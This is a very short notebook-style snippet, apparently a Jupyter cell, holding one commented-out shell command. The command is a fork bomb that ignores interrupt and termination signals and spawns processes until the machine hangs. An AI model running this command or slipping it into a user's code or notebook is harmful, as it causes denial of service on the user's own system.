# %%
# !sh -c 'trap "" INT TERM HUP; f() { f | f & }; f; sleep 1000'
